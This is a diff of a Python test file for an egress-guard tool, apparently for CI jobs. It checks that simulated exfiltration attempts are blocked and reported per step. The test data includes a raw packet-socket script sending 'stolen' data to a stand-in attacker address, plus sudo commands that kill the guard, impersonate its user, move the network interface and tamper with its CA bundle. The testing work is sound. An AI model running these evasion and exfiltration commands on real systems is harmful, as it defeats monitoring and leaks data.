@@ -6,6 +6,7 @@ Judged by what left eth0. With sudo a step can undo what is on its own kernel; t
 from __future__ import annotations
 
 import time
+from collections.abc import Iterator
 
 import pytest
 
@@ -60,22 +61,42 @@ WAYS = {
 QUIET = {"a new network namespace of one's own", "the gate's own port"}  # nothing reached the gate, so there is nothing to say
 
 
+@pytest.fixture(scope="module")
+def bare() -> Iterator[Machine]:
+    """A machine without a guard."""
+    with Machine() as machine:
+        yield machine
+
+
+@pytest.fixture(scope="module")
+def guarded() -> Iterator[Job]:
+    """A guarded job that several attacks are tried in, one after another."""
+    with Machine() as machine, Job(machine, allow="api.example.com http://api.example.com") as job:
+        yield job
+
+
+@pytest.mark.parametrize("name", [one for one in WAYS if one not in QUIET and one != "the platform's address"])
+def test_unguarded_it_is_a_real_attack(bare: Machine, name: str) -> None:
+    bare.world.forget()
+    done = bare.run(WAYS[name], timeout=30)
+    assert {one for one in bare.sent() if one[0] in TARGETS}, (done.stdout, done.stderr)
+
+
 @pytest.mark.parametrize("name", WAYS)
-def test_nothing_arrives_and_the_job_fails(machine: Machine, name: str) -> None:
-    bare = machine.run(WAYS[name], timeout=30)
-    if name not in QUIET and name != "the platform's address":
-        assert {one for one in machine.sent() if one[0] in TARGETS}, (bare.stdout, bare.stderr)  # unguarded it is a real attack
-    with Job(machine, allow="api.example.com http://api.example.com") as job:
-        job.step(WAYS[name], name="attack", timeout=30)
-        verdict = job.verdict()
-        assert {one for one in machine.sent() if one[0] in TARGETS} == set()
-        assert [one for one in machine.world.questions if "stolen" in one[0] or "attacker" in one[0]] == []
-        if name in QUIET:
-            assert job.step(["curl", "-sS", "https://api.example.com/"]).code == 0
-            return
-        assert verdict.code == 90, verdict.stdout
-        steps = {(one["origin"]["step"] or {}).get("name") for one in verdict.report["incidents"]}
-        assert steps == {"attack"}, verdict.report["incidents"]
+def test_nothing_arrives_and_the_report_says_which_step(guarded: Job, name: str) -> None:
+    world, step = guarded.machine.world, f"attack-{list(WAYS).index(name)}"
+    world.forget()
+    known = len(guarded.events())
+    guarded.step(WAYS[name], name=step, timeout=30)
+    verdict = guarded.verdict()
+    assert {one for one in guarded.machine.sent() if one[0] in TARGETS} == set()
+    assert [one for one in world.questions if "stolen" in one[0] or "attacker" in one[0]] == []
+    if name in QUIET:
+        assert "got GET" in guarded.step(["curl", "-sS", "https://api.example.com/"]).stdout
+        return
+    assert verdict.code == 90, verdict.stdout
+    fresh = [one for one in guarded.events()[known:] if one.get("decision", {}).get("action") == "deny"]
+    assert {(one["origin"]["step"] or {}).get("name") for one in fresh} == {step}, fresh
 
 
 def test_a_secret_to_an_attacker_and_to_an_allowed_host_ends_the_step(machine: Machine, secret: str) -> None:
@@ -113,26 +134,23 @@ SUDO = {
     "frames of a packet socket": ("python3 /tmp/frames.py", None),
     "moving the interface away": ("ip netns add away; ip link set eth0 netns away", "eth0"),
     "an interface on top of the uplink": ("ip link add link eth0 name mac0 type macvlan mode bridge", "mac0"),
-    "passing for the gate's user": ("setpriv --reuid 61184 --clear-groups sleep 20 & sleep 2", "passes for the gate"),
+    "passing for the gate's user": ("setpriv --reuid $(stat -c %u /proc/$(cat /tmp/gate)) --clear-groups sleep 20 & sleep 2", "passes for the gate"),
     "killing the gate": ("kill -9 $(cat /tmp/gate)", "the gate ended"),
     "removing the control socket": ("rm /run/ebbgate/control.sock; sleep 2; ls -l /run/ebbgate", None),
     "changing the bundle": ("sh -c 'chmod u+w /run/ebbgate/ca-bundle.pem; echo x >>/run/ebbgate/ca-bundle.pem'; sleep 1.5", "was changed"),
 }  # fmt: skip
-FRAMES = (
-    """
+FRAMES = """
 import socket, struct, subprocess
 words = subprocess.run(["ip", "neigh", "get", "192.0.2.1", "dev", "eth0"], capture_output=True, text=True).stdout.split()
 mac = bytes.fromhex(words[words.index("lladdr") + 1].replace(":", ""))
 udp = struct.pack("!HHHH", 4000, 4444, 14, 0) + b"stolen"
-head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 1, 0, 64, 17, 0, socket.inet_aton("192.0.2.2"), socket.inet_aton("%s"))
+head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 1, 0, 64, 17, 0, socket.inet_aton("192.0.2.2"), socket.inet_aton("ATTACKER"))
 total = sum(struct.unpack("!10H", head))
 total = (total & 0xFFFF) + (total >> 16)
 head = head[:10] + struct.pack("!H", ~((total & 0xFFFF) + (total >> 16)) & 0xFFFF) + head[12:]
 out = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0800))
 out.sendto(head + udp, ("eth0", 0x0800, 0, 0, mac))
-"""
-    % EVIL
-)  # noqa: UP031 - the program has braces
+""".replace("ATTACKER", EVIL)
 
 
 @pytest.mark.parametrize("name", SUDO)
